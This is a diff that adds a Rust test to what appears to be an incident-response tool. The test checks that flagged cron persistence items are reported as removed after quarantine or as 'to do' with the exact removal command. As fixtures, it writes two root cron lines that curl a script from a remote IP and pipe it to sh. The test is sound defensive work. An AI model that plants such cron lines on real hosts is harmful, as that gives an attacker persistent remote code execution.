@@ -371,3 +371,61 @@ fn a_clean_host_gives_a_quiet_report() {
         "{md}"
     );
 }
+
+/// Each flagged persistence item has a status (issue 16): one quarantined
+/// after the scan is `removed` by that step, one left in place is `to do`
+/// with the exact command that removes it, and only the latter is a to-do.
+#[test]
+fn persistence_items_say_removed_by_which_step_or_how_to_remove_them() {
+    let h = Host::files();
+    for (name, line) in [
+        ("gone", "* * * * * root curl -s http://203.0.113.9/a | sh\n"),
+        ("kept", "* * * * * root curl -s http://203.0.113.9/b | sh\n"),
+    ] {
+        let p = h.path(&format!("/etc/cron.d/{name}"));
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, line).unwrap();
+    }
+    h.ir().args(["-q", "persistence"]).assert().code(1);
+    h.ir()
+        .args(["-q", "quarantine", "--force", "/etc/cron.d/gone"])
+        .assert()
+        .success();
+    h.ir().args(["-q", "report"]).assert().success();
+    let js: Value =
+        serde_json::from_slice(&std::fs::read(h.case.join("report.json")).unwrap()).unwrap();
+    let errs = schema_errors(&js);
+    assert!(errs.is_empty(), "{errs:#?}");
+    let item = |path: &str| {
+        js["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["detector"] == "persistence" && f["where"] == path)
+            .unwrap_or_else(|| panic!("no finding at {path}: {}", js["findings"]))
+            .clone()
+    };
+    let gone = item("/etc/cron.d/gone");
+    assert_eq!(gone["status"], "removed", "{gone}");
+    assert_eq!(gone["removed_by"]["step"], "quarantine", "{gone}");
+    assert!(gone.get("remove_with").is_none(), "{gone}");
+    let kept = item("/etc/cron.d/kept");
+    assert_eq!(kept["status"], "to do", "{kept}");
+    assert_eq!(
+        kept["remove_with"], "ir quarantine /etc/cron.d/kept",
+        "{kept}"
+    );
+    let todo = js["todo"].to_string();
+    assert!(
+        todo.contains("/etc/cron.d/kept") && !todo.contains("/etc/cron.d/gone"),
+        "{todo}"
+    );
+    let md = std::fs::read_to_string(h.case.join("report.md")).unwrap();
+    assert!(md.contains("[removed by quarantine at "), "{md}");
+    assert!(
+        md.contains("[to do: ir quarantine /etc/cron.d/kept]"),
+        "{md}"
+    );
+    let html = std::fs::read_to_string(h.case.join("report.html")).unwrap();
+    assert!(html.contains("[to do: ir quarantine /etc/cron.d/kept]"));
+}
